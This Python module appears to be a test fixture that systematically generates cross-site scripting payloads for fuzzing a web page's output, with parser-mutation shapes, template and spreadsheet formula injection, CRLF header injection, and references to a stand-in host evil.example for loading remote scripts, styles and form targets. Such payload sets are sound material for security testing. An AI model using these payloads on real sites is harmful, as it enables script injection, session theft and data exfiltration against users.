"""Texts that try to run, made systematically: each place that text may stand in, each way out."""

from __future__ import annotations

from urllib.parse import quote

__all__ = ["LINKS_AT", "MARK", "NEVER_STORED", "PAYLOADS", "marked"]

RUN = "window.__xss=1"
TITLE = "document.title='PWNED'"
# What the text may stand in, and what ends it: an element, an attribute, a comment, a script.
CLOSERS = (
    "", '">', "'>", "`>", "-->", "--!>", "]]>", "*/", "</title>", "</textarea>", "</style>",
    "</script>", "</noscript>", "</template>", "</select>", "</svg>", "</math>", "</a>",
    "</td></tr></table>", "</iframe>", "</xmp>", "</option></select>", "</summary></details>",
)  # fmt: skip
OPENERS = (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>")
# Elements that run something by themselves: name and attributes, the event, what stands in them.
ELEMENTS = (
    ("img src=x:", "onerror", ""),
    ("image src=x:", "onerror", ""),
    ("video><source src=x:", "onerror", ""),
    ("audio src=x:", "onerror", ""),
    ("object data=x:", "onerror", ""),
    ("script src=x:", "onerror", "</script>"),
    ("link rel=stylesheet href=x:", "onerror", ""),
    ("input type=image src=x:", "onerror", ""),
    ("body", "onload", ""),
    ("body", "onpageshow", ""),
    ("style", "onload", "</style>"),
    ("iframe", "onload", "</iframe>"),
    ("svg", "onload", ""),
    ("svg><animate attributeName=x dur=1s", "onbegin", ""),
    ("svg><set attributeName=x to=1", "onbegin", ""),
    ("details open", "ontoggle", "<summary>x</summary></details>"),
    ("input autofocus", "onfocus", ""),
    ("textarea autofocus", "onfocus", "</textarea>"),
    ("select autofocus", "onfocus", "</select>"),
    ("a href=x autofocus tabindex=1", "onfocusin", "x</a>"),
    ("p contenteditable autofocus", "onfocus", "x</p>"),
    ("p style=animation:x", "onanimationstart", "x</p>"),
    ("p style=transition:all", "ontransitionend", "x</p>"),
    ("button", "onclick", "x</button>"),
    ("form", "onsubmit", "<button>x</button></form>"),
    ("div", "onpointerenter", "x</div>"),
    ("marquee", "onstart", "x</marquee>"),
)
QUOTES = ('"', "'", "")
# Ways out of an attribute that keep the element: another attribute, by event.
EVENTS = (
    "onfocus={run} autofocus tabindex=1",
    "onmouseover={run} style=position:fixed;inset:0",
    "onclick={run}",
    "onanimationstart={run} style=animation:x",
    "href=javascript:{run}",
    "style=background:url(//evil.example/a)",
    "srcdoc=<script>parent.__xss=1</script>",
    "formaction=javascript:{run}",
)
LINKS = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\tjavascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "javascript\t:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript:{run}",
    "java&#9;script:{run}",
    "java&Tab;script:{run}",
    "%6aavascript:{run}",
    "javascript://example.org/%0a{run}",
    "javascript:/*-->*/{run}",
    'javascript:"<script>{run}</script>"',
    "vbscript:msgbox(1)",
    "livescript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run} xmlns='http://www.w3.org/2000/svg'/>",
    "data:application/javascript,{run}",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "blob:null/{run}",
    "filesystem:null/{run}",
    "file:///etc/passwd",
    "//evil.example/a",
    "\\\\evil.example\\a",
    "https:javascript:{run}",
    "https://user:{run}@evil.example/",
)
# Ways out of a string of a script, for each kind of quote.
STRINGS = (
    "{q};{run};//",
    "{q}+({run})+{q}",
    "{q}-({run})-{q}",
    "{q});{run};//",
    "{q}}});{run};({{a:{q}",
    "{q}]}});{run};//",
    "\\{q};{run};//",
    "{q}\n{run}\n//",
    "{q},{run},{q}",
)
TEMPLATES = (
    "${{{run}}}",
    "${{{title}}}",
    "`${{{run}}}`",
    "$\\{{{run}}}",
    "#{{{run}}}",
    "*{{{run}}}",
    "@{{{run}}}",
    "[[{run}]]",
    "<%={run}%>",
    "<?={run}?>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{{{ 7*7 }}}}{{% raw %}}",
    "{{% for x in () %}}<b onclick={run}>{{{{ x }}}}{{% endfor %}}",
    "{{{{ '<script>{run}</script>' | safe }}}}",
    "{{% autoescape false %}}<img src=x: onerror={run}>{{% endautoescape %}}",
    "{{# <script> #}}",
    "%(name)s %s {{}} {{0}} {{name}}",
)
# The same sign less directly: entities of HTML, escapes of JavaScript and JSON, percent, wide.
LESS_THAN = (
    "&lt;", "&lt", "&LT;", "&#60;", "&#060;", "&#x3c;", "&#x3C", "&amp;lt;", "\\u003c", "\\x3c",
    "\\74", "%3C", "%253C", "\uff1c", "\\u{{3c}}",
)  # fmt: skip
CASES = (
    "<ScRiPt>{run}</sCrIpT>",
    "<script\t>{run}</script\t>",
    "<script\n>{run}</script\n>",
    "<script/x>{run}</script/x>",
    "<script >{run}</script >",
    "<<script>{run}//<</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script>{run}",
    "<script type=module>{run}</script>",
    "<script language=javascript>{run}</script>",
    "<script>\u2028{run}\u2029</script>",
    "<script src=//evil.example/a.js></script>",
    "<script src=data:,{run}></script>",
    "<script nonce=x>{run}</script>",
    "<IMG SRC=x: ONERROR={run}>",
    "<img/src=x:/onerror={run}>",
    "<img\nsrc=x:\nonerror={run}\n>",
    "<img\tsrc=x:\tonerror={run}>",
    "<img src=`x:` onerror={run}>",
    "<img src=x: onerror\t=\t{run}>",
    "<img src=x: onerror=&#119;indow.__xss=1>",
    "<img src=x: onerror={run}//",
    '<img src=x: "onerror={run}">',
    "<img src=x: title='>' onerror={run}>",
    "<img src=x: on\u00adload=1 onerror={run}>",
    "< img src=x: onerror={run}>",
    "\u00a0<img src=x: onerror={run}>\u200b",
    "\ufeff<svg onload={run}>",
    "\u2028{run};//\u2029",
    "e\u0301<svg onload={run}>",
)
# Shapes that a parser puts together otherwise the second time: foreign content, raw text.
MUTATIONS = (
    '<svg></p><style><a id="</style><img src=x: onerror={run}>">',
    "<math><mtext><table><mglyph><style><img src=x: onerror={run}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={run}>",
    '<noscript><p title="</noscript><img src=x: onerror={run}>">',
    "<template><style></template><img src=x: onerror={run}>",
    "<select><template><style></select><svg onload={run}>",
    "<svg><style><!--</style><img src=x: onerror={run}>-->",
    "<svg><![CDATA[><img src=x: onerror={run}>]]>",
    "<svg><desc><noembed></svg><img src=x: onerror={run}>",
    '<math><annotation-xml encoding="text/html"><style><img src=x: onerror={run}>',
    "<listing>&lt;img src=x: onerror={run}&gt;</listing>",
    "<xmp></xmp><svg onload={run}>",
    "<plaintext><img src=x: onerror={run}>",
    "<table><tr><td><svg><p><style></table><svg onload={run}>",
    '<a title="x` `<img src=x: onerror={run}>`">',
    '<?xml version="1.0"?><svg onload={run}>',
    "<!--<script>{run}",
    "<!--><svg onload={run}>-->",
    "<!DOCTYPE html><svg onload={run}>",
    "<![endif]--><svg onload={run}>",
)
FOREIGN = (
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} /></svg>",
    "<svg><a href=javascript:{run}><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:{run} /></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{run}'/>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__xss=1</script>'/></foreignObject></svg>",
    "<svg><image href=//evil.example/a /></svg>",
    "<math href=javascript:{run}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
)
TAKEOVERS = (
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>{run}</script>">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=preload as=image href=//evil.example/a>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<embed src=//evil.example/a>",
    "<object data=javascript:{run}></object>",
    "<form action=//evil.example/><button>x</button></form>",
    "<form action=javascript:{run}><input type=submit autofocus></form>",
    "<button form=filters formaction=//evil.example/>x</button>",
    "<a href=javascript:{run}>a link</a>",
    "<a href=//evil.example/ ping=//evil.example/ target=_top>a link</a>",
    "<area href=javascript:{run}>",
    "<video poster=//evil.example/a></video>",
    "<body background=//evil.example/a>",
    "<table background=//evil.example/a>",
    "<input name=attributes><form id=IncidentMap>",
    "<a id=IncidentMap><a id=IncidentMap name=state>",
    "<img src=//evil.example/a>",
    "<div id=map-data>{{}}</div>",
)
SHEETS = (
    "</style><style>*{{background:url(//evil.example/a)}}</style>",
    "<style>@import '//evil.example/a.css'</style>",
    '<p style="background:url(//evil.example/a)">',
    '<p style="width:expression({run})">',
    "}}*{{background:url(//evil.example/a)}}",
    ";background:url(//evil.example/a);",
)
# What a spreadsheet would work out.
FORMULAS = (
    '=HYPERLINK("javascript:{run}")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    '=IMPORTXML("//evil.example/a","//a")',
)


def _made() -> dict[str, None]:
    """Give every payload once, in one order."""
    found = [closer + OPENERS[at % len(OPENERS)] for at, closer in enumerate(CLOSERS)]
    for at, (element, event, inner) in enumerate(ELEMENTS):
        # Each element with one way to quote, and the next with the next.
        quote_ = QUOTES[at % len(QUOTES)]
        found.append(f"<{element} {event}={quote_}{RUN}{quote_}>{inner}")
    for at, event in enumerate(EVENTS):
        quotes = QUOTES[at % 2 : at % 2 + 2]
        found += [f"{quote_} {event.format(run=RUN)} x={quote_}" for quote_ in quotes]
    found += [text.format(run=RUN) for text in LINKS]
    found += [text.format(q=q, run=RUN) for text in STRINGS for q in "'\"`"]
    found += [text.format(run=RUN, title=TITLE) for text in TEMPLATES]
    found += [f"{sign.format()}img src=x: onerror={RUN}>" for sign in LESS_THAN]
    groups = (CASES, MUTATIONS, FOREIGN, TAKEOVERS, SHEETS, FORMULAS)
    found += [text.format(run=RUN) for group in groups for text in group]
    return dict.fromkeys(found)


PAYLOADS = tuple(_made())
# What begins as a link does: a page could make one of it.
LINKS_AT = tuple(text.format(run=RUN) for text in LINKS)
# What a record refuses (row 25), so that only an address can bring it; as it stands there.
NEVER_STORED = (
    quote(f"<scr\0ipt>{RUN}</scr\0ipt>"),
    quote(f"<img\0src=x: onerror={RUN}>"),
    quote(f"<img src=x: on\0error={RUN}>"),
    quote(f"\x01javascript:{RUN}"),
    quote(f"java\x00script:{RUN}"),
    quote(f"<svg\x0conload={RUN}>"),
    quote(f"<svg\x0bonload={RUN}>"),
    quote(f"\u202e<svg onload={RUN}>"),
    quote("a\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(1)>"),
    f"%ED%A0%80{quote(f'<svg onload={RUN}>')}",  # half of a surrogate pair
    f"{quote('<img src=x: onerror=')}%ED%BF%BF{RUN}>",
    f"%C0%BCscript>{RUN}%C0%BC/script>",  # an overlong less-than
    f"%FE%FF{quote(f'<svg onload={RUN}>')}",
    f"%2B%2FADwAcw-script+AD4{RUN}",  # UTF-7
)
# Field and payload, at the end of each text: what a page shows can so be counted.
MARK = r"~(\d+)\.(\d+)~"


def marked(field: int, row: int) -> str:
    """Give the payload of a field in a row with its mark: over the rows each meets each."""
    at = (row + field) % len(PAYLOADS)
    return f"{PAYLOADS[at]}~{field}.{at}~"
